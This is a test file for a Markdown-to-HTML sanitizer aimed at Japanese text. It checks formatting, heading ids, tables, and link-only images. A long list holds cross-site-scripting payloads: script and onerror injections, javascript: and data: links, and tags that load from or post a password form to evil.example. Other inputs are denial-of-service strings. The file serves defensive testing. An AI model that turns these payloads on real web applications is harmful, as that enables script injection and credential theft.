import { htmlOf } from '.';

const shape = { ids: 'doc-', topLevel: 2, language: 'ja' } as const;
const html = (markdown: string): string => htmlOf(markdown, shape).trim();

describe('Japanese in Markdown', () => {
  it.each([
    ['**「重要」**です', '<p><strong>「重要」</strong>です</p>'],
    ['これは**「重要」**です', '<p>これは<strong>「重要」</strong>です</p>'],
    ['**VPN(新)**を使う', '<p><strong>VPN(新)</strong>を使う</p>'],
    ['手順は**必須**。', '<p>手順は<strong>必須</strong>。</p>'],
    ['**注意:**必ず', '<p><strong>注意:</strong>必ず</p>'],
    ['**𠮷野家。**の件', '<p><strong>𠮷野家。</strong>の件</p>'],
    ['~~「旧」~~新', '<p><s>「旧」</s>新</p>'],
    ['*“引用”*だ', '<p><em>“引用”</em>だ</p>'],
    ['snake_case_name は_そのまま_', '<p>snake_case_name は_そのまま_</p>'],
    ['3 * 4 * 5', '<p>3 * 4 * 5</p>'],
    ['** 空白 **', '<p>** 空白 **</p>'],
    ['a**"b"**c', '<p>a**"b"**c</p>'],
  ])('%s', (markdown, expected) => {
    expect(html(markdown)).toBe(expected);
  });

  it.each([
    ['詳しくはhttps://example.jp/a?b=1をご覧ください。', 'https://example.jp/a?b=1', 'をご覧ください。'],
    ['(https://example.jp/help)を', 'https://example.jp/help', ')を'],
    ['https://example.jp/help。次に', 'https://example.jp/help', '。次に'],
    ['社内は https://example.jp/、社外は', 'https://example.jp/', '、社外は'],
  ])('ends a bare address where Japanese begins: %s', (markdown, address, rest) => {
    expect(html(markdown)).toContain(`<a href="${address}" rel="noopener">${address}</a>${rest}`);
  });

  it('keeps the lines as they were written, as the preview of the editor does', () => {
    expect(html('一行目\n二行目')).toBe('<p>一行目<br />\n二行目</p>');
  });
});

describe('what a text becomes', () => {
  it('begins its headings under those of the page, and gives them names of their own', () => {
    const text = '# VPN の使い方\n## 手順(1)\n#### 詳細\n# VPN の使い方\n[上へ](#手順-1)';
    expect(html(text)).toBe(
      [
        '<h2 id="doc-vpn-の使い方">VPN の使い方</h2>',
        '<h3 id="doc-手順-1">手順(1)</h3>',
        '<h5 id="doc-詳細">詳細</h5>',
        '<h2 id="doc-vpn-の使い方-2">VPN の使い方</h2>',
        `<p><a href="#doc-${encodeURIComponent('手順-1')}">上へ</a></p>`,
      ].join('\n'),
    );
    expect(html('### 深い\n##### もっと深い')).toMatch(/^<h2 id="doc-深い">.*<h4 /s);
    expect(htmlOf('# a\n###### b', { ...shape, topLevel: 4 })).toMatch(/^<h4 .*<h6 /s);
    expect(html('# !!!')).toBe('<h2 id="doc-section">!!!</h2>');
    expect(html('# `location` ＶＰＮ')).toContain('id="doc-location-vpn"');
  });

  it('lets a wide table be scrolled by keyboard, and aligns without a style attribute', () => {
    const table = html('|名|数|\n|:--|--:|\n|PC|3<br>4|');
    expect(table).toMatch(/^<div class="table-scroll" role="region" tabindex="0" aria-label="表 1"><table>/);
    expect(table).toContain('<td class="is-right">3<br />\n4</td>');
    expect(table).not.toContain('style');
    expect(htmlOf('|a|\n|-|\n\n|b|\n|-|', { ...shape, language: 'en' })).toContain('aria-label="Table 2"');
  });

  it('shows an image as a link to it: nothing is loaded from elsewhere', () => {
    expect(html('![構成図](https://example.jp/a.png)')).toBe(
      '<p><a href="https://example.jp/a.png" rel="noopener">構成図</a></p>',
    );
    expect(html('[![図](https://example.jp/a.png)](/documents)')).toBe('<p><a href="/documents">図</a></p>');
    expect(html('![図](/uploads/a.png)')).toBe('<p>図</p>');
  });

  it('takes out the marks that turn the order of letters', () => {
    expect(html('請求書\u202Efdp.exe と \u2066x\u2069')).toBe('<p>請求書fdp.exe と x</p>');
  });
});

const PLAIN = 'p|blockquote|pre|code|ul|ol|li|strong|em|s|table|thead|tbody|tr|h[2-6]|a|div|th|td';
const HREF = '(?:https?:|mailto:|tel:|[^":<>/?#]*[/?#])[^"<>]*';
/** Everything that may begin with `<` in what is shown, to the letter. */
const KNOWN = new RegExp(
  `^<(?:/?(?:${PLAIN})|br /|hr /|h[2-6] id="doc-[^"<>]*"|ol start="\\d+"|a href="${HREF}"(?: rel="noopener")?|` +
    't[hd] class="is-[a-z]+"|div class="table-scroll" role="region" tabindex="0" aria-label="表 \\d+")>$',
);
const strangers = (shown: string): readonly string[] =>
  [...shown.matchAll(/<[^>]*>?/g)].map(([tag]) => tag).filter((tag) => !KNOWN.test(tag));

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<iframe src="https://evil.example"></iframe>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<div><script>alert(1)',
  '<iframe src="https://evil.example"',
  '<!-- --><script>alert(1)</script>',
  '<?xml ?><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](java&Tab;script:alert(1))',
  '[x](&#106;&#97;vascript&colon;alert(1))',
  '[x](&#x01;javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](\u0001javascript:alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x][y]\n\n[y]: <java&NewLine;script:alert(1)>',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://example.jp/a.png)',
  '![x](https://example.jp/a.png"onerror="alert(1))',
  '[x](https://example.jp/"onmouseover="alert(1))',
  '[x](https://example.jp "onmouseover=alert(1)")',
  '# <img src=x onerror=alert(1)>',
  '# x" onclick="alert(1)',
  '|<script>|\n|:-:" onclick="alert(1)|\n|x|',
  '```"><script>alert(1)</script>\nx\n```',
  '<br onclick=alert(1)>',
  '</p></div></main><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[javascript:alert(1)](#"onclick="alert(1))',
  '[x](#%)',
];

describe('hostile Markdown', () => {
  it.each(HOSTILE)('%s', (markdown) => {
    expect(strangers(html(markdown))).toEqual([]);
  });

  it('is caught by a test that can fail', () => {
    const bad = [
      '<script>',
      '<p onclick=x>',
      '<img src=x>',
      '<a href="data:x">',
      '<th style="x">',
      '</form>',
      '<b',
    ];
    expect(bad.flatMap(strangers)).toEqual(bad);
    expect(strangers('<p>a</p>\n<a href="#doc-a">')).toEqual([]);
  });

  const kB200 = (part: string): string => part.repeat(Math.floor(200_000 / Buffer.byteLength(part)));
  it.each([
    ['50,000 quotes', '>'.repeat(50_000)],
    ['50,000 brackets', '['.repeat(50_000)],
    ['image brackets', kB200('![')],
    ['open links', kB200('[a](')],
    ['nested bold', `${'**a '.repeat(25_000)}${'a**'.repeat(25_000)}`],
    ['marks that never match', kB200('*a_ ')],
    ['schemes', kB200('a://')],
    ['addresses', kB200('https://a.jp/ ')],
    ['tags', kB200('<div>')],
    ['headings', kB200('# a\n')],
    ['tables', kB200('|a|\n|-|\n\n')],
    ['empty cells', `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n${'|\n'.repeat(90_000)}`],
    ['definitions', kB200('[a]: b\n')],
    ['images', kB200('![a](b)')],
  ])('of 200 kB takes no more than a moment: %s', (_name, markdown) => {
    const started = performance.now();
    expect(html(markdown)).not.toMatch(/<script/);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('that is too long to be read is shown as it is', () => {
    const shown = html(`<script>${'あ'.repeat(100_000)}`);
    expect(shown).toMatch(/^<pre>&lt;script&gt;あ/);
  });
});
